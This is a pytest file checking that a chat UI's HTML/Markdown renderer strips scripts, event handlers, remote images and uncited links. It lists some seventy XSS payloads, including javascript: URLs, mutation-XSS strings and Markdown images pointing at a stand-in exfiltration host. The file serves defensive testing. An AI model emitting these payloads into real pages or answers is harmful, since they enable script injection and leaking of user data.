"""The renderer: whatever is written, no script, no remote picture, no link that was not cited."""

from __future__ import annotations

import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from ui import render

EVIL = "https://evil.example/?d=SECRET"
ALONE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?d=SECRET'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<video src=https://evil.example/v onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1)>click</x>",
    "<p id=x tabindex=1 onfocus=alert(1)>x",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</div></div><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    f"![x]({EVIL})",
    f"![x][r]\n\n[r]: {EVIL}",
    f'![x]({EVIL} "title")',
    f"[click]({EVIL})",
    f"[click][r]\n\n[r]: {EVIL}",
    f"<{EVIL}>",
    f"[![x]({EVIL})]({EVIL})",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/redirect?to=https://evil.example)",
    "[x](https://tea.example@evil.example/)",
    "[x](https://tea.example/returns?next=https://evil.example)",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "```\n\n\n<img src=x onerror=alert(1)>\n\n```",
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](https://evil.example) |",
    "> <script>alert(1)</script>\n\n- ![x](https://evil.example)",
    "text\n\n\n\n<div onclick=alert(1)>block</div>\n\n\n![x](https://evil.example)",
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\x00<script\x00>alert(1)</script>",
    "<a href='https://tea.example/returns' onclick=alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<thinking><img src=x onerror=alert(1)></thinking>",
]
AROUND = ("{}", "- {}", "> {}", "**{}**", "1. x\n\n{}")  # where Markdown reads on inside
PAYLOADS = [around.format(one) for around in AROUND for one in ALONE]
PAYLOADS = PAYLOADS[: int(os.environ.get("ZHIKE_PAYLOADS", len(ALONE)))]
TAGS = render.TAGS
ALLOWED = frozenset({"https://tea.example/returns"})


class Found(HTMLParser):
    """Every tag and attribute of a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def check(markup: str) -> None:
    assert "\n" not in markup  # Gradio would read Markdown behind a blank line
    for tag, attributes in Found(markup).tags:
        assert tag in TAGS | {"mark"}, markup
        assert tag == "a" or not attributes, markup
        if tag == "a":
            assert attributes["href"] in ALLOWED, markup
            assert set(attributes) == {"href", "rel", "target"}


def test_there_are_enough_payloads() -> None:
    assert len(ALONE) >= 60 and len(ALONE) * len(AROUND) >= 300


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_whole_and_in_every_streamed_part(payload: str) -> None:
    text = f"Hello {payload} bye"
    for end in range(len(text) + 1):
        check(render.answer(text[:end], ALLOWED))
        check(render.answer(payload[:end], ()))
    check(render.plain(payload))
    check(render.passage(text, payload))
    check(re.sub(r'<div class="table">|</div>', "", render.table(["head"], [[payload]])))


def test_markdown_stays_readable() -> None:
    shown = render.answer("**bold** and\n\n- one\n- two\n\n1. first")
    assert "<strong>bold</strong>" in shown
    assert shown.count("<li>") == 3


def test_a_cited_link_is_a_link_and_another_is_text() -> None:
    url = "https://tea.example/returns"
    assert f'href="{url}"' in render.answer(f"See {url} please.", {url})
    assert f'href="{url}"' in render.answer(f"See [the form]({url}).", {url})
    assert "href" not in render.answer(f"See [the form]({url}).", {"https://tea.example/"})
    assert "the form" in render.answer(f"See [the form]({url}).")
    assert "a cup" in render.answer("![a cup](https://evil.example/x.png)")


def test_urls_of_a_passage_are_found() -> None:
    text = "见 https://tea.example/a?b=1，或 (http://b.example/x). end"
    assert render.urls(text) == {"https://tea.example/a?b=1", "http://b.example/x"}


def test_the_supporting_sentence_is_marked() -> None:
    shown = render.passage("One.\nTwo <b>.\nThree.", "Two <b>.")
    assert shown == "One.<br><mark>Two &lt;b&gt;.</mark><br>Three."
    assert "<mark>" not in render.passage("One.", "Nothing like it")


def test_several_sentences_are_marked_each_once() -> None:
    shown = render.passage("One. Two. Three.", "Three.", "One.", "One. Two.", "None.")
    assert shown.count("<mark>") == shown.count("</mark>")
    assert re.sub("</?mark>", "", shown) == "One. Two. Three."
    assert re.findall("<mark>(.*?)</mark>", shown) == ["One. Two.", "Three."] or re.findall(
        "<mark>(.*?)</mark>", shown
    ) == ["One.", " Two.", "Three."]


def test_no_component_renders_html_past_the_renderer() -> None:
    """gr.HTML would also need 'unsafe-eval' in the content security policy."""
    for path in (Path(__file__).parents[2] / "ui").rglob("*.py"):
        assert "gr.HTML" not in path.read_text("utf-8"), path
